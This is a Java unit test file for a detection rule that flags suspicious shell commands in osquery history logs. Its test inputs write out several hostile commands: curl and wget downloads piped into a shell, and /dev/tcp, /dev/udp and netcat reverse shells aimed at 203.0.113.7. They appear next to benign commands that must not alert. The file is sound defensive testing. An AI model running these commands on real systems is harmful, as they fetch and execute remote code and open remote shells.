package com.example.detections;

import static org.assertj.core.api.Assertions.assertThat;

import io.streamalert.StreamAlert;
import io.streamalert.alert.Alert;
import io.streamalert.alert.Severity;
import io.streamalert.community.CommunitySchemas;
import io.streamalert.record.FieldValue;
import io.streamalert.record.LogRecord;
import io.streamalert.record.LogType;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SuspiciousShellCommandTest {

  private final StreamAlert streamAlert = StreamAlert.builder()
      .schemas(CommunitySchemas.all())
      .rules(new SuspiciousShellCommand())
      .build();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -fsSL http://203.0.113.7/i.sh | bash",
        "wget -qO- http://203.0.113.7/i.sh |sudo sh",
        "cd /tmp && curl 203.0.113.7|zsh -s -- --quiet",
        "nohup bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "nc 203.0.113.7 4444 -e /bin/sh"
      })
  void attackIsAnAlert(String command) {
    assertThat(alerts("added", command)).hasSize(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -s https://shop.example.com/health",
        "curl -s https://shop.example.com/items | jq .name",
        "curl -O https://example.com/i.sh; bash --version",
        "nc -z db.example.com 5432",
        "ls /dev",
        ""
      })
  void everydayWorkIsNot(String command) {
    assertThat(alerts("added", command)).isEmpty();
  }

  @Test
  void historyThatIsRemovedIsNot() {
    assertThat(alerts("removed", "curl 203.0.113.7 | bash")).isEmpty();
  }

  @Test
  void titleNamesUserHostAndCommand() {
    assertThat(alerts("added", "curl 203.0.113.7 |\n bash"))
        .extracting(Alert::title)
        .containsExactly("deploy on web-03.example.com piped a download into a shell: "
            + "curl 203.0.113.7 | bash");
  }

  @Test
  void reverseShellIsCritical() {
    assertThat(alerts("added", "sh -i >& /dev/udp/203.0.113.7/53 0>&1"))
        .extracting(Alert::severity)
        .containsExactly(Severity.CRITICAL);
  }

  @Test
  void longCommandIsShortenedAndDoesNotStallTheRule() {
    assertThat(alerts("added", "curl ".repeat(20_000) + "| sh"))
        .allSatisfy(alert -> assertThat(alert.title()).hasSizeLessThan(200).endsWith("…"))
        .hasSize(1);
  }

  private List<Alert> alerts(String action, String command) {
    Map<String, String> columns = Map.of("username", "deploy", "command", command);
    LogRecord record = LogRecord.builder(
            LogType.of("osquery:differential"),
            FieldValue.of(Map.of(
                "hostIdentifier", "web-03.example.com", "action", action, "columns", columns)))
        .build();
    return streamAlert.evaluate(List.of(record)).get(0).alerts();
  }
}
